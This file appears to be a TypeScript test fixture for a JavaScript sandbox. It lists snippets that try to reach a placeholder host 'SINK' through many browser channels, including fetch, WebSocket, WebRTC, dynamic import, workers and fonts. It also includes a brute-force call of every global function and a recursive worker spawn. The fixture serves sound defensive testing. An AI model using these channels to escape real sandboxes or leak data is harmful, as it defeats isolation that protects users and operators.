import type { HostileProgram } from './HostileProgram.ts';

const moment = 'await new Promise((resolve) => setTimeout(resolve, 100));';

/** Programs that try to reach a server. `SINK` stands for its host and port. */
export const network: readonly HostileProgram[] = [
  reaching('fetch', "await globalThis.fetch('http://SINK/fetch');"),
  reaching(
    'fetch that stays',
    "await globalThis.fetch('http://SINK/keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' });",
  ),
  reaching(
    'XMLHttpRequest',
    "const request = new globalThis.XMLHttpRequest();\nrequest.open('GET', 'http://SINK/xhr', false);\nrequest.send();",
  ),
  reaching('WebSocket', `new globalThis.WebSocket('ws://SINK/socket');\n${moment}`),
  failing('WebSocketStream', `new globalThis.WebSocketStream('ws://SINK/stream');\n${moment}`),
  reaching('EventSource', `new globalThis.EventSource('http://SINK/events');\n${moment}`),
  reaching('WebTransport', `new globalThis.WebTransport('https://SINK/transport');\n${moment}`),
  failing(
    'WebRTC',
    `const peer = new globalThis.RTCPeerConnection({ iceServers: [{ urls: 'stun:SINK' }] });\npeer.createDataChannel('x');\nawait peer.setLocalDescription(await peer.createOffer());\n${moment}`,
  ),
  failing('sendBeacon', "globalThis.navigator.sendBeacon('http://SINK/beacon', 'x');"),
  reaching('importScripts', "globalThis.importScripts('http://SINK/scripts');"),
  reaching('import', "await import('http://SINK/module');"),
  failing('import of data', 'await import(\'data:text/javascript,import("http://SINK/data")\');'),
  reaching(
    'import of a blob',
    "await import(globalThis.URL.createObjectURL(new globalThis.Blob(['import(\"http://SINK/blob\")'], { type: 'text/javascript' })));",
  ),
  failing('import by a name', "const name = 'node:http';\nawait import(name);"),
  {
    id: 'import statement',
    tries: 'import a module from elsewhere',
    source: "import x from 'http://SINK/static';\nx;",
    ends: 'failed',
    says: /^SyntaxError: .*not from 'http:/,
  },
  {
    id: 'export statement',
    tries: 'load a module from elsewhere by exporting it',
    source: "export * from 'http://SINK/export';",
    ends: 'failed',
    says: /^SyntaxError: .*export/,
  },
  reaching('FontFace', "await new globalThis.FontFace('f', 'url(http://SINK/font)').load();"),
  failing('image', "new globalThis.Image().src = 'http://SINK/image';"),
  reaching(
    'a worker',
    `new globalThis.Worker('data:text/javascript,fetch("http://SINK/worker")');\n${moment}`,
  ),
  failing('a shared worker', "new globalThis.SharedWorker('http://SINK/shared');"),
  failing(
    'workers in workers',
    "const text = 'for (let i = 0; i < 200; i++) new Worker(location.href);';\nnew globalThis.Worker(globalThis.URL.createObjectURL(new globalThis.Blob([text])));",
  ),
  failing('a service worker', "await globalThis.navigator.serviceWorker.register('http://SINK/service');"),
  failing('a worklet', "await globalThis.CSS.paintWorklet.addModule('http://SINK/worklet');"),
  failing('notifications', "new globalThis.Notification('x', { icon: 'http://SINK/icon' });"),
  {
    id: 'whatever is there',
    tries: 'call everything it finds with the address of the server',
    source: `const tried = new Set();
const call = (f, owner) => {
  if (tried.has(f)) return;
  tried.add(f);
  for (const act of [() => f.call(owner, 'http://SINK/any'), () => new f('http://SINK/any'), () => f.call(owner, { url: 'http://SINK/any', toString: () => 'http://SINK/any' })]) {
    try { Promise.resolve(act()).catch(() => {}); } catch {}
  }
};
const ours = new Set(['setTimeout', 'setInterval', 'queueMicrotask', 'console']);
for (let owner = globalThis; owner; owner = Object.getPrototypeOf(owner)) {
  for (const name of Reflect.ownKeys(owner)) {
    let value;
    try { value = owner[name]; } catch { continue; }
    if (typeof value === 'function' && !ours.has(name)) call(value, globalThis);
    if (typeof value === 'object' && value !== null && !ours.has(name)) for (const key of Reflect.ownKeys(value)) { let inner; try { inner = value[key]; } catch { continue; } if (typeof inner === 'function') call(inner, value); }
  }
}
${moment}
tried.size > 50;`,
    ends: 'finished',
    prints: 'true',
  },
];

function reaching(id: string, source: string): HostileProgram {
  return { ...failing(id, source), reachesFromPlainWorker: true };
}

function failing(id: string, source: string): HostileProgram {
  return { id, tries: 'reach a server', source, ends: 'failed' };
}
